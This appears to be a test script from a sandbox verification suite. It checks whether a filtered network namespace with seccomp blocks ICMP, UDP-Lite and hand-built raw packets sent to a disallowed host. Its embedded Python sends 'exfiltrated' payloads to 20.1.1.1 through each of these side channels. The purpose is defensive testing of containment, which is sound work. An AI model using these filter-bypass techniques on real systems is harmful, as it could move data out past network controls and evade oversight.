#!/bin/sh
# net.filtered, hazard 55: what is neither TCP nor a question for a name: ICMP, UDP-Lite, and packets made by hand, to a host that
# is allowed. Counted by the kernel of the network outside.
# run: --net filtered --allow allowed.test
# plant: namespaces.net+seccomp
prepare() {
	prepare_internet
	[ "$(id -u)" = 0 ] || [ -e /proc/net/udplite ] || skip "this kernel has nothing of the kind for users"
}

launch() {
	# shellcheck disable=SC2016  # for the inner shell
	"$VERIFY/internet" "$OUTSIDE/hosts" sh -c '
		counted() {
			awk '"'"'
				$1 == "Icmp:" && $2 == "InMsgs" { for (i = 2; i <= NF; i++) name[i] = $i; next }
				$1 == "Icmp:" { for (i = 2; i <= NF; i++) if (name[i] == "InEchos") sum += $i }
				$1 == "UdpLite:" && $2 != "InDatagrams" { sum += $2 + $3 }
				$1 == "Udp:" && $2 != "InDatagrams" { sum += $2 + $3 }
				END { print sum + 0 }'"'"' /proc/net/snmp
		}
		before=$(counted)
		"$@"
		echo $(($(counted) - before)) >"$WORLD/counted"' sh "$@"
}

act() {
	/usr/bin/python3 -c '
import socket, struct
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def ping(kind):
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(echo, ("20.1.1.1", 0))
def light():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b"exfiltrated", ("20.1.1.1", 4433))
def packet():
    udp = struct.pack("!HHHH", 4000, 4433, 8 + 12, 0) + b"exfiltrated!"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, b"\x7f\0\0\1", b"\x14\1\1\1")
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    wire.bind(("lo", 0x0800))
    wire.send(bytes(12) + b"\x08\0" + head + udp)
for attempt in (lambda: ping(socket.SOCK_RAW), lambda: ping(socket.SOCK_DGRAM), light, packet):
    try:
        attempt()
    except OSError:
        pass'
}

happened() {
	[ "$(cat "$WORLD/counted")" -gt 0 ]
}

. "$VERIFY/internet.sh"
